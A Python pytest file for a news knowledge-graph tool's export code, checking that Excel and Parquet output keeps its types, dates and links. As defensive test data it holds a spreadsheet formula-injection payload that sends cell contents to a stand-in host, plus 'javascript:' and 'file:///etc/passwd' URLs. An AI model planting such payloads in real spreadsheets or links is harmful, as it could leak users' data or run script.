"""Typed tables: what a workbook and a Parquet file hold once they are opened again."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import sys
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path

import duckdb
import openpyxl
import pyarrow.parquet as pq
import pytest
from graph.examples import ARTICLE, ENGLISH, ENGLISH_STATEMENTS, STATEMENTS, VISIT
from openpyxl.cell import Cell

from kg import export
from kg.cli import main
from kg.cli.export import ENDINGS
from kg.errors import StoreError
from kg.export import parquet, workbook
from kg.export.gathered import days
from kg.graph import Store
from kg.model import Evidence


@pytest.fixture
def store() -> Store:
    store = Store.memory()
    store.add(ARTICLE, [replace(VISIT, confidence=0.9), *STATEMENTS[1:]])
    store.add(ENGLISH, ENGLISH_STATEMENTS)
    return store


def sheet(path: Path, title: str) -> list[dict[str, object]]:
    head, *rows = openpyxl.load_workbook(path)[title].iter_rows()
    return [{name.value: cell for name, cell in zip(head, row, strict=True)} for row in rows]


def test_a_workbook_has_three_sheets_with_types(store: Store, tmp_path: Path) -> None:
    export.write(store, tmp_path / "x.xlsx")
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    assert book.sheetnames == ["statements", "actors", "articles"]
    for page in book:
        assert page.freeze_panes == "A2" and page["A1"].font.bold and page.auto_filter.ref == page.dimensions
        assert 5 < page.column_dimensions["A"].width <= 60
    rows = sheet(tmp_path / "x.xlsx", "statements")
    assert len(rows) == 8
    visit, meeting, clash = rows[3], rows[5], rows[6]
    assert (visit["date"].value, visit["date"].number_format) == (datetime(2020, 10, 6), "yyyy-mm-dd")
    assert (meeting["date"].value, meeting["date"].number_format) == (datetime(2020, 10, 1), "yyyy-mm")
    assert (clash["date"].value, clash["date"].number_format) == (datetime(1994, 1, 1), "yyyy")
    assert [row["date_precision"].value for row in (visit, meeting, clash, rows[0])] == ["day", "month", "year", None]
    assert visit["published"].value == datetime(2020, 10, 5, 14, 6) and visit["published"].is_date
    assert visit["confidence"].value == 0.9 and visit["start"].value == 0
    assert visit["sentence"].value == VISIT.evidence[0].sentence
    assert visit["url"].value == ARTICLE.url and visit["url"].hyperlink is None  # no address: it has a blank


def test_actors_and_articles_are_there_once(store: Store, tmp_path: Path) -> None:
    export.write(store, tmp_path / "x.xlsx", language="id")
    actors = {row["iso"].value or row["label"].value: row for row in sheet(tmp_path / "x.xlsx", "actors")}
    turkey = actors["TR"]
    assert turkey["names"].value == "Ankara; Turkey; Turki" and turkey["statements"].value == 3
    assert turkey["wikidata"].value == "Q43"
    assert turkey["wikidata"].hyperlink.target == "https://www.wikidata.org/wiki/Q43"
    assert actors["Baku"]["statements"].value == 0 and actors["Baku"]["type"].value == "Place"
    articles = sheet(tmp_path / "x.xlsx", "articles")
    assert [(row["article"].value, row["statements"].value) for row in articles] == [("support-2", 3), ("visit-1", 5)]


def test_links_open_pages_of_the_web_alone(tmp_path: Path) -> None:
    for number, url in enumerate(("https://example.org/a", "javascript:alert(1)", "file:///etc/passwd")):
        store = Store.memory()
        store.add(replace(ARTICLE, url=url), [VISIT])
        export.write(store, tmp_path / f"{number}.xlsx")
        (row,) = sheet(tmp_path / f"{number}.xlsx", "articles")
        assert (row["url"].hyperlink is not None) == (number == 0)


@pytest.mark.parametrize("start", ["=", "+", "@", "\x00=", "\ufffe"])
def test_no_cell_of_a_workbook_is_a_formula(start: str, tmp_path: Path) -> None:
    text = start + 'HYPERLINK("http://a.example/?"&A1,"open") <b>&amp;</b> ' + "long " * 9000
    store = Store.memory()
    store.add(replace(ARTICLE, headline=text), [replace(VISIT, evidence=(Evidence(text, 0, len(text)),))])
    export.write(store, tmp_path / "x.xlsx")
    (row,) = sheet(tmp_path / "x.xlsx", "statements")
    for name in ("sentence", "headline"):
        assert row[name].data_type == "s"
        assert row[name].value == text.replace("\x00", "\ufffd").replace("\ufffe", "\ufffd")[:32_767]


def test_an_empty_workbook_has_its_headers(tmp_path: Path) -> None:
    export.write(Store.memory(), tmp_path / "x.xlsx")
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    assert [page.max_row for page in book] == [1, 1, 1]
    assert book["statements"]["A1"].value == "relation" and book["actors"]["A1"].value == "label"


def test_more_than_a_sheet_holds_is_said(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "_ROWS", 8)
    with pytest.raises(StoreError, match=r"write \.parquet"):
        export.write(store, tmp_path / "x.xlsx")
    monkeypatch.setattr(workbook, "_ROWS", 100)
    monkeypatch.setattr(workbook, "_LINKS", 3)
    export.write(store, tmp_path / "x.xlsx")
    links = [row["wikidata"].hyperlink for row in sheet(tmp_path / "x.xlsx", "actors")]
    assert len([link for link in links if link]) <= 2


def test_parquet_holds_the_statement_lines(store: Store, tmp_path: Path) -> None:
    twice = replace(VISIT, evidence=(*VISIT.evidence, Evidence("Dia akan bertemu.", 107, 124)))
    store.add(replace(ARTICLE, id="twice"), [twice])
    export.write(store, tmp_path / "x.parquet")
    export.write(store, tmp_path / "x.jsonl")
    table = pq.read_table(tmp_path / "x.parquet")
    assert str(table.schema.field("date_from").type) == "date32[day]" and len(table) == 9
    lines = [json.loads(line) for line in (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines()]
    for row, line in zip(table.to_pylist(), lines, strict=True):
        assert row["evidence"] == [line["evidence"], *line["further_evidence"]]
        for name in ("subject", "object", "place", "source"):
            assert (row[name] is None) == (line[name] is None)
            assert line[name] is None or line[name].items() <= row[name].items()
        assert [source["iri"] for source in row["attribution"]] == [source["iri"] for source in line["attribution"]]
        for name in ("doc", "relation", "factuality", "date", "office", "confidence", "lang"):
            assert row[name] == line[name]
    visit, meeting = table.to_pylist()[4], table.to_pylist()[6]
    assert (visit["date_from"], visit["date_to"]) == (date(2020, 10, 6),) * 2
    assert (meeting["date_from"], meeting["date_to"]) == (date(2020, 10, 1), date(2020, 10, 31))
    assert (visit["published_at"], visit["published"]) == (datetime(2020, 10, 5, 14, 6), "2020-10-05T14:06:00+07:00")


def test_duckdb_asks_parquet(store: Store, tmp_path: Path) -> None:
    export.write(store, tmp_path / "x.parquet")
    table = f"read_parquet('{tmp_path / 'x.parquet'}')"
    found = duckdb.sql(
        f"SELECT object.iso, e.sentence, e.start FROM {table}, UNNEST(evidence) AS t(e) "
        "WHERE date_from >= DATE '2020-10-02' AND confidence > 0.5"
    ).fetchall()
    assert found == [("AZ", VISIT.evidence[0].sentence, 0)]
    export.write(Store.memory(), tmp_path / "empty.parquet")
    assert duckdb.sql(f"SELECT count(*) FROM '{tmp_path / 'empty.parquet'}'").fetchall() == [(0,)]


def test_parquet_comes_in_groups(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parquet, "_GROUP", 3)
    export.write(store, tmp_path / "x.parquet")
    assert pq.ParquetFile(tmp_path / "x.parquet").metadata.num_row_groups == 3
    assert [row["relation"] for row in pq.read_table(tmp_path / "x.parquet").to_pylist()] == [
        row.relation for row in export.statements(store)
    ]


@pytest.mark.parametrize(
    ("told", "first", "last"),
    [
        ("2020-02", date(2020, 2, 1), date(2020, 2, 29)),
        ("1994", date(1994, 1, 1), date(1994, 12, 31)),
        ("2020-10-06", date(2020, 10, 6), date(2020, 10, 6)),
    ],
)
def test_a_date_has_a_first_and_a_last_day(told: str, first: date, last: date) -> None:
    assert days(told) == (first, last)


@pytest.mark.parametrize("told", [None, "", "soon", "2020-13", "2020-02-30", "0000", "20", "2020-10-06T00:00:00"])
def test_what_is_no_date_has_no_days(told: str | None) -> None:
    assert days(told) is None


def test_days_before_excel_are_texts(tmp_path: Path) -> None:
    store = Store.memory()
    store.add(ARTICLE, [replace(VISIT, date="1883-08-27")])
    export.write(store, tmp_path / "x.xlsx")
    (row,) = sheet(tmp_path / "x.xlsx", "statements")
    assert (row["date"].value, row["date"].data_type) == ("1883-08-27", "s")


@pytest.mark.parametrize(("package", "ending"), [("openpyxl", ".xlsx"), ("pyarrow", ".parquet")])
def test_without_the_package_the_extra_is_named(
    store: Store,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    package: str,
    ending: str,
) -> None:
    store.dump(tmp_path / "g.trig")
    for name in [name for name in sys.modules if name.partition(".")[0] == package]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, package, None)
    assert main(["export", str(tmp_path / "g.trig"), "-o", str(tmp_path / f"x{ending}")]) == 1
    said = capsys.readouterr().err
    assert said == f"kg: {ending} files need the package {package}: `pip install 'newskg[tables]'`\n"
    assert [path.name for path in tmp_path.iterdir()] == ["g.trig"]


ALL_SHEETS = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"  # UTF-8, a file each


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed (libreoffice-calc)")
def test_libreoffice_shows_every_cell_of_the_workbook(store: Store, tmp_path: Path) -> None:
    hostile = replace(VISIT, evidence=(Evidence('=1+1 "quoted", é 😀', 0, 16),), office="+2; @SUM(A1)", confidence=0.25)
    store.add(replace(ARTICLE, id="x", headline="-3\ttabs\nand lines"), [hostile])
    export.write(store, tmp_path / "x.xlsx")
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"  # one that is running does not matter
    line = ["soffice", profile, "--headless", "--convert-to", ALL_SHEETS, "--outdir", str(tmp_path)]
    subprocess.run([*line, str(tmp_path / "x.xlsx")], check=True, timeout=300, capture_output=True)
    compared = 0
    for page in openpyxl.load_workbook(tmp_path / "x.xlsx"):
        with (tmp_path / f"x-{page.title}.csv").open(encoding="utf-8", newline="") as file:
            shown = list(csv.reader(file))
        assert len(shown) == page.max_row > 1, page.title
        for cells, row in zip(page.iter_rows(), shown, strict=True):
            for cell, text in zip(cells, row, strict=True):
                compared += 1
                _assert_shown(cell, text)
    assert compared > 300


def _assert_shown(cell: Cell, text: str) -> None:
    """Assert that LibreOffice shows what the cell holds: texts to the letter, numbers and days by their value."""
    if cell.value is None:
        assert text == "", cell.coordinate
    elif not isinstance(cell.value, datetime):
        assert text == str(cell.value), cell.coordinate
    elif cell.number_format in ("yyyy", "yyyy-mm"):  # told by LibreOffice in its own language's order
        assert str(cell.value.year) in text, cell.coordinate
    else:
        assert text in (str(cell.value.date()), str(cell.value)), cell.coordinate


def test_the_page_about_exports_tells_every_ending_and_its_query_runs(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = (Path(workbook.__file__).parents[1] / "docs" / "exports.md").read_text(encoding="utf-8")
    for ending in ENDINGS:
        assert f"`{ending}`" in page, ending
    monkeypatch.chdir(tmp_path)
    export.write(store, "statements.parquet")
    query = page.partition("```sql\n")[2].partition("```")[0]
    assert {row[1] for row in duckdb.sql(query).fetchall()} == {"visits", "meets"}
